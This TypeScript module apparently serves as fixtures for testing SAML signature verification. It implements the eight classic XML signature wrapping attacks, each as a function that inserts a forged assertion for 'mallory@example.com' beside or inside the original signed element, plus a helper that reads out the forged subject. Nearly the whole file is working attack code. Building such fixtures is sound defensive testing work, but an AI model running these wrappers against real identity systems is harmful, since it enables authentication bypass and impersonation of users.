import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/*
 * The eight classic forms of XML signature wrapping, as functions over a validly signed response. The signature and
 * what it signs stay in the document, and a second assertion says that its subject is Mallory. Source: Somorovsky et
 * al., "On Breaking SAML: Be Whoever You Want to Be" (2012), in the numbering that SAML Raider made common.
 */

export const mallory = 'mallory@example.com';

interface Parts {
  readonly response: Element;
  readonly assertion: Element;
  readonly signature: Element;
}

const wrap = (act: (parts: Parts) => void) => (xml: string) => {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  act({
    response,
    assertion: find(response, 'saml:Assertion'),
    signature: find(response, 'ds:Signature'),
  });
  return new XMLSerializer().serializeToString(document);
};

function find(element: Element, tagName: string): Element {
  const found = element.getElementsByTagName(tagName)[0];
  if (found === undefined) throw new TypeError(`no ${tagName}`);
  return found;
}

/** As it was signed: the enveloped signature is no part of it. */
function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  const signature = copy.getElementsByTagName('ds:Signature')[0];
  signature?.parentNode?.removeChild(signature);
  return copy;
}

function forge(element: Element): Element {
  element.setAttribute('ID', '_forged');
  find(element, 'saml:NameID').textContent = mallory;
  return element;
}

/** Of a signed response: the original hangs in the signature of a forged response. */
export const wrap1 = wrap(({ response, signature }) => {
  const original = withoutSignature(response);
  forge(response);
  find(response, 'saml:Assertion').setAttribute('ID', '_forged_assertion');
  signature.appendChild(original);
});

/** Of a signed response: the original stands beside the signature of a forged response. */
export const wrap2 = wrap(({ response, signature }) => {
  const original = withoutSignature(response);
  forge(response);
  find(response, 'saml:Assertion').setAttribute('ID', '_forged_assertion');
  response.insertBefore(original, signature);
});

/** Of a signed assertion: a forged one stands before it. */
export const wrap3 = wrap(({ response, assertion }) => {
  response.insertBefore(forge(withoutSignature(assertion)), assertion);
});

/** The original hangs in a forged one. */
export const wrap4 = wrap(({ response, assertion }) => {
  const forged = forge(withoutSignature(assertion));
  response.replaceChild(forged, assertion);
  forged.appendChild(assertion);
});

/** The forged one has the signature, and the original stands at the end. */
export const wrap5 = wrap(({ response, assertion }) => {
  const original = withoutSignature(assertion);
  forge(assertion);
  response.appendChild(original);
});

/** The original hangs in the signature of the forged one. */
export const wrap6 = wrap(({ assertion, signature }) => {
  const original = withoutSignature(assertion);
  forge(assertion);
  signature.appendChild(original);
});

/** The forged one stands in Extensions, which may hold anything. */
export const wrap7 = wrap(({ response, assertion }) => {
  const extensions = response.ownerDocument.createElementNS(
    'urn:oasis:names:tc:SAML:2.0:protocol',
    'samlp:Extensions',
  );
  extensions.appendChild(forge(withoutSignature(assertion)));
  response.insertBefore(extensions, assertion);
});

/** The original hangs in an Object of the forged one's signature. */
export const wrap8 = wrap(({ assertion, signature }) => {
  const original = withoutSignature(assertion);
  forge(assertion);
  const object = assertion.ownerDocument.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
  object.appendChild(original);
  signature.appendChild(object);
});

/** What a reader of the unverified document can take for the subject. */
export function forgedSubjectOf(xml: string): string | null | undefined {
  const { documentElement } = new DOMParser().parseFromString(xml, 'text/xml');
  const names = Array.from(documentElement.getElementsByTagName('saml:NameID'));
  const assertionOf = (nameId: Element) => nameId.parentNode?.parentNode as Element | undefined;
  return names.find((nameId) => assertionOf(nameId)?.getAttribute('ID')?.startsWith('_forged'))?.textContent;
}
